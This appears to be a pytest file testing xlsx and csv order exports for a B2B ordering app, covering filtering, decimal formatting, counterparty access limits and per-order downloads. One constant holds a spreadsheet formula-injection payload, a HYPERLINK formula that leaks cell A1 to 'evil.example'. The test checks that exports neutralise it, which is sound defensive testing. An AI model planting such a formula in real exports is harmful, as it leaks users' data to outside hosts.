import csv
import io

import pytest
from python_calamine import CalamineWorkbook
from tests.conftest_helpers import client_for

from kabinet.accounts.tests.factories import UserFactory
from kabinet.orders.tests.factories import goods_make, order_make, orders_make
from kabinet.orders.workflow import Status

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _xlsx_rows(response) -> list[list]:
    content = b"".join(response.streaming_content)
    return CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()


def _csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.fixture
def orders(partner):
    return orders_make(partner, n=8)


def test_the_xlsx_export_lists_the_filtered_orders(english_client, orders, other_partner):
    orders_make(other_partner, n=2)

    response = english_client.get("/orders/export.xlsx", {"tab": "in_work"})

    rows = _xlsx_rows(response)
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="orders.xlsx"'
    assert rows[0][:3] == ["Number", "Number in 1C", "Date"]
    in_work = [
        o for o in orders if o.status in {"sent", "accepted", "shortage", "assembling", "shipped"}
    ]
    assert [row[0] for row in rows[1:]] == [o.number for o in in_work]
    assert [row[8] for row in rows[1:]] == [float(o.total) for o in in_work]


def test_the_csv_export_lists_the_filtered_orders(partner_client, orders):
    response = partner_client.get("/orders/export.csv", {"number": orders[4].number})

    rows = _csv_rows(response)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert len(rows) == 2
    assert rows[1][0] == orders[4].number
    assert rows[1][1] == orders[4].erp_number
    assert rows[1][8] == "400,00"  # localised decimal comma


def test_exports_keep_formula_like_text_as_text(partner_client, partner_admin, partner):
    variants = goods_make(partner, n=1, name=FORMULA)
    order = order_make(author=partner_admin, variants=variants, comment=FORMULA)

    xlsx = _xlsx_rows(partner_client.get("/orders/export.xlsx"))
    csv_rows = _csv_rows(partner_client.get("/orders/export.csv"))
    one = _xlsx_rows(partner_client.get(f"/orders/{order.pk}/download.xlsx"))

    assert xlsx[1][13] == FORMULA
    assert csv_rows[1][13] == "'" + FORMULA
    assert [cell for row in one for cell in row if cell == FORMULA] == [FORMULA, FORMULA]


def test_exports_leave_out_another_counterparty_for_a_limited_employee(partner, orders):
    employee = UserFactory(partner=partner, sections=["orders"])
    employee.counterparties.set([orders[0].counterparty])

    rows = _csv_rows(client_for(employee).get("/orders/export.csv"))

    assert [row[0] for row in rows[1:]] == [
        o.number for o in orders if o.counterparty_id == orders[0].counterparty_id
    ]


def test_one_order_downloads_with_its_header_lines_and_totals(english_client, partner_admin, goods):
    order = order_make(author=partner_admin, variants=goods, status=Status.SHIPPED, quantity="3")

    response = english_client.get(f"/orders/{order.pk}/download.xlsx")

    rows = _xlsx_rows(response)
    assert response.status_code == 200
    assert f'filename="order-{order.number}.xlsx"' in response["Content-Disposition"]
    assert rows[0][:2] == ["Order", order.number]
    lines = [row for row in rows if row and row[0] in {"1", "2"}]
    assert [(row[1], row[2], row[4], row[6], row[7], row[8], row[11]) for row in lines] == [
        (line.article, line.product_name, 3.0, 3.0, 0.0, 0.0, 300.0) for line in order.lines.all()
    ]
    assert rows[-2][0] == "Total"
    assert rows[-2][11] == 600.0


def test_one_order_downloads_with_the_backordered_quantity_of_each_line(
    english_client, partner_admin, goods
):
    order = order_make(author=partner_admin, variants=goods, status=Status.ACCEPTED, quantity="5")
    first, second = order.lines.all()
    first.confirmed_quantity = 3
    first.save()
    second.confirmed_quantity = 5
    second.save()

    rows = _xlsx_rows(english_client.get(f"/orders/{order.pk}/download.xlsx"))

    header = next(row for row in rows if row and row[0] == "No.")
    assert header[4:9] == ["Ordered", "Confirmed", "Shipped", "Remaining", "Backordered"]
    lines = [row for row in rows if row and row[0] in {"1", "2"}]
    assert [row[4:9] for row in lines] == [[5.0, 3.0, 0.0, 3.0, 2.0], [5.0, 5.0, 0.0, 5.0, 0.0]]


def test_the_export_route_knows_only_xlsx_and_csv(partner_client):
    assert partner_client.get("/orders/export.pdf").status_code == 404
